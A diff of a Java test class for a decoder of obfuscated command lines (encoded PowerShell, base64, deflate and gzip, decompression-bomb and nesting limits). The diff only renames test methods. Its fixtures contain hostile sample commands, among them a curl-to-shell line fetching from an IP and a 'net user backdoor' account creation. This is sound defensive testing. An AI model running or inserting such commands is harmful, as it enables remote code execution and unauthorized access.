@@ -39,14 +39,14 @@ class DecoderTest {
                 "powershell /enco '%s'",
                 "powershell –enc %s"
             })
-    void anEncodedCommandIsReadInEachWayToGiveIt(String line) {
+    void anEncodedCommandIsDecodedForEachSpellingOfTheOption(String line) {
         String encoded = base64(COMMAND, StandardCharsets.UTF_16LE);
         assertThat(Decoder.decode(line.formatted(encoded)))
                 .containsExactly(new Decoded("PowerShell -EncodedCommand: Base64, UTF-16LE", encoded, COMMAND, false));
     }
 
     @Test
-    void aShortEncodedCommandIsReadWhereTheOptionNamesIt() {
+    void aShortEncodedCommandIsDecodedAfterTheOption() {
         assertThat(Decoder.decode("powershell -enc SQBFAFgA"))
                 .extracting(Decoded::text)
                 .containsExactly("IEX");
@@ -54,7 +54,7 @@ class DecoderTest {
     }
 
     @Test
-    void plainBase64IsReadInBothAlphabetsAndWithoutPadding() {
+    void base64IsDecodedInBothAlphabetsAndWithoutPadding() {
         String text = "curl http://192.0.2.1/?>>>??? | sh -";
         String padded = base64(text, StandardCharsets.UTF_8);
         String url = Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
@@ -64,7 +64,7 @@ class DecoderTest {
     }
 
     @Test
-    void compressedOneLinersAreReadAndWhatStandsInThem() throws IOException {
+    void compressedAndNestedCommandsAreDecoded() throws IOException {
         String inner = base64("net user backdoor P@ssw0rd /add", StandardCharsets.UTF_8);
         String script = "$x=[Convert]::FromBase64String('" + inner + "')";
         ByteArrayOutputStream zipped = new ByteArrayOutputStream();
@@ -82,7 +82,7 @@ class DecoderTest {
     }
 
     @Test
-    void bareDeflateAndZlibAreRead() throws IOException {
+    void deflateAndZlibAreDecoded() throws IOException {
         for (boolean bare : new boolean[] {true, false}) {
             ByteArrayOutputStream packed = new ByteArrayOutputStream();
             try (OutputStream out = new DeflaterOutputStream(packed, new Deflater(9, bare))) {
@@ -95,7 +95,7 @@ class DecoderTest {
     }
 
     @Test
-    void aBombIsCut() throws IOException {
+    void aDecompressionBombIsCut() throws IOException {
         ByteArrayOutputStream packed = new ByteArrayOutputStream();
         try (OutputStream out = new GZIPOutputStream(packed)) {
             for (int i = 0; i < 10_000; i++) {
@@ -108,7 +108,7 @@ class DecoderTest {
     }
 
     @Test
-    void nestingAndNumberAreBounded() {
+    void nestingAndNumberOfResultsAreBounded() {
         String nested = COMMAND;
         for (int i = 0; i < 10; i++) {
             nested = base64(nested, StandardCharsets.UTF_8);
@@ -135,12 +135,12 @@ class DecoderTest {
                 "powershell -enc %PAYLOAD%",
                 "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
             })
-    void whatIsNotEncodedIsLeftAlone(String value) {
+    void plainTextIsNotDecoded(String value) {
         assertThat(Decoder.decode(value)).isEmpty();
     }
 
     @Test
-    void whateverAValueHoldsItIsReadOrLeft() {
+    void randomValuesNeverCauseAnError() {
         Random random = new Random(12);
         for (int round = 0; round < 20_000; round++) {
             byte[] bytes = new byte[12 + random.nextInt(60)];
